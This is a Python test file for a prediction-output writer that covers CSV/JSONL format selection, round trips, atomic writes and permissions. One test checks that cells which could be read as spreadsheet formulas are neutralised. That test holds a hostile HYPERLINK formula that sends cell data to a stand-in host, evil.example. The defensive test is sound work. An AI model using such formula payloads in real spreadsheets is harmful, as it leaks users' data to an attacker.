"""CSV / JSONL writers: format choice, standard-library round trips, atomic files."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from symnets_deploy.enums import OutputFormat
from symnets_deploy.errors import UsageError
from symnets_deploy.predictor import FIELDS, Prediction
from symnets_deploy.writers import csv_row, resolve_format, write_predictions

ROWS = [
    Prediction("a/1.jpg", "mug", 3, 0.8123456789, ("mug", "cup, tall"), (0.8123456789, 0.1)),
    Prediction.failed("a/2.jpg", "a/2.jpg: cannot decode\n(truncated)"),
    Prediction("a/\u00e9t\u00e9.png", "caf\u00e9", 0, 0.5, ("caf\u00e9",), (0.5,)),
]


def test_fields_are_the_documented_columns() -> None:
    assert FIELDS == ("path", "label", "index", "confidence", "topk_labels", "topk_probs", "status", "error", "low_confidence", "unusual")


@pytest.mark.parametrize(
    "output, fmt, expected",
    [("p.csv", None, "csv"), ("P.JSONL", None, "jsonl"), ("p.ndjson", None, "jsonl"), ("-", None, "csv"), ("p.txt", "jsonl", "jsonl"), ("-", OutputFormat.jsonl, "jsonl")],
)
def test_resolve_format(output: str, fmt, expected: str) -> None:
    assert resolve_format(output, fmt) is OutputFormat(expected)


@pytest.mark.parametrize("output, fmt", [("preds.txt", None), ("preds", None), ("p.csv", "xml")])
def test_unresolvable_format_is_a_usage_error(output: str, fmt) -> None:
    with pytest.raises(UsageError):
        resolve_format(output, fmt)


def test_csv_parses_back_with_the_standard_library(tmp_path: Path) -> None:
    out = tmp_path / "preds.csv"
    stats = write_predictions(iter(ROWS), out)
    assert (stats.rows, stats.failures) == (3, 1)
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == list(FIELDS)
    assert rows[0]["label"] == "mug" and int(rows[0]["index"]) == 3 and float(rows[0]["confidence"]) == 0.812346
    assert json.loads(rows[0]["topk_labels"]) == ["mug", "cup, tall"]
    assert json.loads(rows[0]["topk_probs"]) == [0.812346, 0.1]
    assert rows[1]["status"] == "error" and rows[1]["error"] == "a/2.jpg: cannot decode (truncated)"
    assert (rows[1]["label"], rows[1]["index"], rows[1]["confidence"], json.loads(rows[1]["topk_labels"])) == ("", "", "", [])
    assert rows[2]["path"] == "a/\u00e9t\u00e9.png" and rows[2]["label"] == "caf\u00e9"


def test_jsonl_parses_back_with_the_standard_library(tmp_path: Path) -> None:
    out = tmp_path / "preds.jsonl"
    write_predictions(ROWS, out)
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [list(r) for r in records] == [list(FIELDS)] * 3
    assert records[0]["topk_probs"] == [0.812346, 0.1] and records[0]["index"] == 3
    assert records[1] == {**dict.fromkeys(FIELDS), "path": "a/2.jpg", "topk_labels": [], "topk_probs": [], "status": "error", "error": "a/2.jpg: cannot decode (truncated)"}


def test_stdout_gets_rows_directly() -> None:
    stream = io.StringIO()
    write_predictions(ROWS[:1], "-", stdout=stream)
    lines = stream.getvalue().splitlines()
    assert lines[0] == ",".join(FIELDS) and lines[1].startswith("a/1.jpg,mug,3,0.812346,")


def test_an_interrupted_write_leaves_the_old_file_and_no_temp(tmp_path: Path) -> None:
    out = tmp_path / "preds.csv"
    out.write_text("previous complete output\n")

    def failing():
        yield ROWS[0]
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_predictions(failing(), out)
    assert out.read_text() == "previous complete output\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["preds.csv"]


def test_output_file_gets_umask_permissions_and_a_folder_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "new" / "preds.csv"
    write_predictions(ROWS, out)
    umask = os.umask(0)
    os.umask(umask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~umask
    with pytest.raises(UsageError, match="folder"):
        write_predictions(ROWS, tmp_path, OutputFormat.csv)


def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path: Path) -> None:
    # Issue 18 item 14: class names come from a model card and paths from the file system, both
    # untrusted; a cell starting with = + - @ (or tab, CR) is a formula in Excel / LibreOffice.
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    rows = [
        Prediction("@list/-1.jpg", hostile, 0, 0.9, (hostile, "+cmd", "-2", "safe"), (0.9, 0.05, 0.03, 0.02)),
        Prediction.failed("\tx.jpg", "-1.jpg: cannot decode"),
        Prediction("\r.jpg", "ok", 1, 0.5, ("ok",), (0.5,)),
        # A CR inside a cell is quoted, not a row break (csv.writer missed it with an LF terminator).
        Prediction("a/\rb.jpg", "ok", 1, 0.5, ("ok",), (0.5,)),
    ]
    out = tmp_path / "preds.csv"
    write_predictions(rows, out)
    assert out.read_bytes().count(b"\n") == 5 and b"\r\n" not in out.read_bytes()
    with out.open(newline="", encoding="utf-8") as f:
        first, failed, third, fourth = list(csv.DictReader(f))
    assert first["label"] == "'" + hostile and first["path"] == "'@list/-1.jpg"
    # Numbers stay numbers; a JSON array cell starts with '[' and keeps the names exactly.
    assert (first["index"], first["confidence"]) == ("0", "0.9")
    assert json.loads(first["topk_labels"]) == [hostile, "+cmd", "-2", "safe"]
    assert failed["path"] == "'\tx.jpg" and failed["error"] == "'-1.jpg: cannot decode" and failed["label"] == ""
    assert third["path"] == "'\r.jpg" and fourth["path"] == "a/\rb.jpg" and fourth["label"] == "ok"
    # JSON Lines is data for programs, not spreadsheets: unchanged.
    jsonl = tmp_path / "preds.jsonl"
    write_predictions(rows, jsonl)
    record = json.loads(jsonl.read_text(encoding="utf-8").splitlines()[0])
    assert record["label"] == hostile and record["path"] == "@list/-1.jpg"


def test_csv_leaves_negative_numbers_unquoted() -> None:
    # A number is written by us, not taken from a file: "-0.5" must stay a number in a spreadsheet.
    assert csv_row(Prediction("a.jpg", "mug", 0, -0.5, ("mug",), (-0.5,)))[:6] == ["a.jpg", "mug", "0", "-0.5", '["mug"]', "[-0.5]"]
